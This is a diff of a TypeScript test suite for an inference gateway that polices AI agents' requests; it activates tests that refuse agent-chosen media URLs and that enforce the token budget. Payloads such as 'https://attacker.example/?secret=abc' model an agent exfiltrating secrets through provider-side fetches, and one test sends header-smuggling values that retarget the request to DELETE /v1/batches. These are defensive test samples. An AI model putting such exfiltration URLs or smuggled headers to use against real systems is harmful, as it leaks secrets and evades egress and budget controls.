@@ -5,6 +5,7 @@
  * hole found and documented but not fixed.
  */
 import { describe, it } from 'node:test';
+import { request as httpRequest } from 'node:http';
 import assert from 'node:assert/strict';
 import type { InferenceRules } from '../snapshot.js';
 import { decideRequest, newMeter, settleTokens, type Forward, type PipelineContext, type Reject } from './pipeline.js';
@@ -91,30 +92,18 @@ describe('hostile: media the provider fetches from a URL of the agent', () => {
   // which the reservation (bytes of the request) does not know: a 60-byte PDF URL can cost 100k+
   // input tokens, so parallel requests overshoot the daily budget by far more than they reserve.
   const noStages = capped(1000);
-  it(
-    'refuses a chat image_url with an http(s) URL',
-    { todo: 'provider-side fetch of an agent-chosen URL is not refused (exfiltration outside egress, unreserved tokens)' },
-    () => {
-      const content = [{ type: 'image_url', image_url: { url: 'https://attacker.example/?secret=abc' } }];
-      refusedWith(decide(CHAT, { model: 'm', messages: [{ role: 'user', content }] }, noStages), 403);
-    },
-  );
-  it(
-    'refuses an Anthropic document or image with source.type url',
-    { todo: 'provider-side fetch of an agent-chosen URL is not refused (exfiltration outside egress, unreserved tokens)' },
-    () => {
-      const content = [{ type: 'document', source: { type: 'url', url: 'https://attacker.example/big.pdf?secret=abc' } }];
-      refusedWith(decide(MESSAGES, { model: 'm', max_tokens: 10, messages: [{ role: 'user', content }] }, noStages), 403);
-    },
-  );
-  it(
-    'refuses a Responses input_file with file_url',
-    { todo: 'provider-side fetch of an agent-chosen URL is not refused (exfiltration outside egress, unreserved tokens)' },
-    () => {
-      const input = [{ role: 'user', content: [{ type: 'input_file', file_url: 'https://attacker.example/?secret=abc' }] }];
-      refusedWith(decide(RESPONSES, { model: 'm', input }, noStages), 403);
-    },
-  );
+  it('refuses a chat image_url with an http(s) URL', () => {
+    const content = [{ type: 'image_url', image_url: { url: 'https://attacker.example/?secret=abc' } }];
+    refusedWith(decide(CHAT, { model: 'm', messages: [{ role: 'user', content }] }, noStages), 403);
+  });
+  it('refuses an Anthropic document or image with source.type url', () => {
+    const content = [{ type: 'document', source: { type: 'url', url: 'https://attacker.example/big.pdf?secret=abc' } }];
+    refusedWith(decide(MESSAGES, { model: 'm', max_tokens: 10, messages: [{ role: 'user', content }] }, noStages), 403);
+  });
+  it('refuses a Responses input_file with file_url', () => {
+    const input = [{ role: 'user', content: [{ type: 'input_file', file_url: 'https://attacker.example/?secret=abc' }] }];
+    refusedWith(decide(RESPONSES, { model: 'm', input }, noStages), 403);
+  });
 });
 
 describe('hostile: Azure OpenAI On Your Data on chat completions', () => {
@@ -146,17 +135,28 @@ describe('hostile: request headers that retarget the governed body', { timeout: 
       await r.stop();
       await up.close();
     });
-    const res = await fetch(`${r.router.url}/v1/chat/completions`, {
-      method: 'POST',
-      headers: {
-        'content-type': 'application/json; charset=iso-8859-1',
-        'x-original-url': '/v1/batches',
-        'x-rewrite-url': '/v1/batches',
-        'x-http-method-override': 'DELETE',
-        'x-original-method': 'DELETE',
-        connection: 'content-type',
-      },
-      body: JSON.stringify({ model: 'm', messages: [{ role: 'user', content: 'hi' }], input_file_id: 'file-1' }),
+    // node:http, since fetch refuses to send a `connection` header naming another header.
+    const body = JSON.stringify({ model: 'm', messages: [{ role: 'user', content: 'hi' }], input_file_id: 'file-1' });
+    const res = await new Promise<{ status: number; text: () => Promise<string> }>((resolve, reject) => {
+      const req = httpRequest(`${r.router.url}/v1/chat/completions`, {
+        method: 'POST',
+        headers: {
+          'content-type': 'application/json; charset=iso-8859-1',
+          'content-length': Buffer.byteLength(body),
+          'x-original-url': '/v1/batches',
+          'x-rewrite-url': '/v1/batches',
+          'x-http-method-override': 'DELETE',
+          'x-original-method': 'DELETE',
+          connection: 'content-type',
+        },
+      });
+      req.on('response', (m) => {
+        const chunks: Buffer[] = [];
+        m.on('data', (c: Buffer) => chunks.push(c));
+        m.on('end', () => resolve({ status: m.statusCode ?? 0, text: () => Promise.resolve(Buffer.concat(chunks).toString()) }));
+      });
+      req.on('error', reject);
+      req.end(body);
     });
     assert.equal(res.status, 200, await res.text());
     const seen = up.requests.at(-1);
@@ -181,16 +181,10 @@ describe('hostile: a daily budget without a per-request cap', () => {
     assert.equal(typeof limit, 'number', `${field} is not set in the forwarded body: the upstream is unbounded`);
     assert.ok((f.reserve?.tokens ?? 0) >= (limit as number), 'the reservation covers the limit forwarded');
   };
-  it(
-    'chat: the forwarded body carries the completion bound the reservation assumed',
-    { todo: 'no limit is written when only a daily cap is set; parallel requests overshoot the daily budget' },
-    () => bounded(decide(CHAT, { model: 'm', messages: [{ role: 'user', content: 'write a novel' }] }, daily), 'max_tokens'),
-  );
-  it(
-    'Responses: the forwarded body carries the max_output_tokens the reservation assumed',
-    { todo: 'no limit is written when only a daily cap is set; parallel requests overshoot the daily budget' },
-    () => bounded(decide(RESPONSES, { model: 'm', input: 'write a novel' }, daily), 'max_output_tokens'),
-  );
+  it('chat: the forwarded body carries the completion bound the reservation assumed', () =>
+    bounded(decide(CHAT, { model: 'm', messages: [{ role: 'user', content: 'write a novel' }] }, daily), 'max_tokens'));
+  it('Responses: the forwarded body carries the max_output_tokens the reservation assumed', () =>
+    bounded(decide(RESPONSES, { model: 'm', input: 'write a novel' }, daily), 'max_output_tokens'));
 });
 
 describe('hostile: a provider-run tool sent as one object instead of a list', () => {
